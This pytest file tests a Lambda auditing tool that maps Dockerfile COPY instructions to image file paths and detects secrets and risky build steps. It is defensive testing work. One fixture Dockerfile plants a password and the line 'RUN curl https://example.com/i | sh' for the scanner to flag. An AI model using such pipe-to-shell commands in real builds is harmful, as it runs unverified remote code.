"""Where a build puts the author's files: the code of image functions, looked into before any image exists."""

from pathlib import Path

import pytest

from lambdaudit.code.image.dockerfile import Build
from lambdaudit.code.image.dockerfile.files import Layout, laid_out
from lambdaudit.code.local import look_at
from lambdaudit.model.functions import Function
from lambdaudit.model.where import Where
from tests.code.dockerfile.test_facts import PASSWORD, SEED


@pytest.fixture
def context(tmp_path: Path) -> Path:
    for name in ("app.py", "lib/a.py", "lib/sub/b.py", "conf/x.json", "tests/t.py", ".env", "web/index.js"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(name)
    return tmp_path


def laid(context: Path, text: str, target: str = "", **arguments: tuple[str, Where] | None) -> Layout:
    (context / "Dockerfile").write_text(text)
    return laid_out(Build(context / "Dockerfile", context, target, arguments))


def found(layout: Layout, context: Path) -> dict[str, str]:
    return {path: disk.relative_to(context).as_posix() for path, disk in sorted(layout.files.items())}


@pytest.mark.parametrize(
    ("text", "files"),
    [
        ("COPY app.py .", {"/var/task/app.py": "app.py"}),
        ("COPY app.py ${LAMBDA_TASK_ROOT}", {"/var/task/app.py": "app.py"}),
        ("COPY app.py main.py", {"/var/task/main.py": "app.py"}),
        ("COPY app.py main/", {"/var/task/main/app.py": "app.py"}),
        ("COPY lib/ ./", {"/var/task/a.py": "lib/a.py", "/var/task/sub/b.py": "lib/sub/b.py"}),
        ("COPY lib /opt/python", {"/opt/python/a.py": "lib/a.py", "/opt/python/sub/b.py": "lib/sub/b.py"}),
        ('COPY ["app.py", "conf/x.json", "all/"]', {"/var/task/all/app.py": "app.py", "/var/task/all/x.json": "conf/x.json"}),
        ("COPY *.py .", {"/var/task/app.py": "app.py"}),
        ("COPY lib/*.py x/", {"/var/task/x/a.py": "lib/a.py"}),
        ("WORKDIR lib\nCOPY lib .", {"/var/task/a.py": "lib/a.py", "/var/task/sub/b.py": "lib/sub/b.py"}),
        ("COPY --exclude=**/b.py lib .", {"/var/task/a.py": "lib/a.py"}),
        ("COPY ../x gone /var/task/", {}),
        ("COPY .env .", {}),
        ("ARG D\nCOPY $D .", {}),
    ],
)
def test_copies(context: Path, text: str, files: dict[str, str]) -> None:
    assert found(laid(context, f"FROM public.ecr.aws/lambda/python:3.13\n{text}\n"), context) == files


def test_stages_working_directories_and_the_command(context: Path) -> None:
    text = (
        "FROM python:3.13 AS build\nWORKDIR /src\nCOPY lib web ./\nFROM python:3.13-slim AS base\nWORKDIR /function\n"
        "COPY --from=build /src/sub ./sub\nCMD ['nothing']\nFROM base\nCOPY app.py .\nRUN pip install awslambdaric\n"
        'ENTRYPOINT ["python", "-m", "awslambdaric"]\nCMD ["app.handler"]\n'
    )
    layout = laid(context, text)
    assert found(layout, context) == {"/var/task/app.py": "app.py", "/var/task/sub/b.py": "lib/sub/b.py"}
    assert layout.command == ("app.handler",)
    assert layout.notes == ["what the commands of its Dockerfile make is not here"]
    assert laid(context, text, "base").command == ("nothing",)


def test_all_of_the_context_but_what_is_ignored(context: Path) -> None:
    (context / ".dockerignore").write_text("tests\n**/*.js\nDockerfile\n")
    layout = laid(context, "FROM public.ecr.aws/lambda/python:3.13\nCOPY . .\n")
    assert set(found(layout, context).values()) == {".dockerignore", "app.py", "conf/x.json", "lib/a.py", "lib/sub/b.py"}


def test_arguments_name_the_source(context: Path) -> None:
    text = "FROM public.ecr.aws/lambda/python:3.13\nARG NAME=gone\nCOPY ${NAME} ./\n"
    assert found(laid(context, text), context) == {}
    given = {"NAME": ("app.py", Where("template.yaml"))}
    assert found(laid(context, text, "", **given), context) == {"/var/task/app.py": "app.py"}


def test_a_folder_of_code_with_a_dockerfile(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text(f"{SEED}ENV DB_PASSWORD={PASSWORD}\nRUN curl https://example.com/i | sh\n")
    (tmp_path / "app.py").write_text("def handler(event, context):\n    return 1\n")
    name = "arn:aws:lambda:us-east-1:000000000000:function:x"
    code = look_at(
        tmp_path, Function(id=name, name="x", where=Where("x"), handler="app.handler", runtime=None, layers=(), environment=())
    )
    assert isinstance(code.secrets, tuple)
    assert isinstance(code.issues, tuple)
    assert [(s.name, s.where.line) for s in code.secrets] == [
        ("AWS_ACCESS_KEY_ID", 7), ("AWS_SECRET_ACCESS_KEY", 8), ("DB_PASSWORD", 12),
    ]  # fmt: skip
    assert ("remote-code", "Dockerfile", 13) in [(i.kind, i.where.source, i.where.line) for i in code.issues]
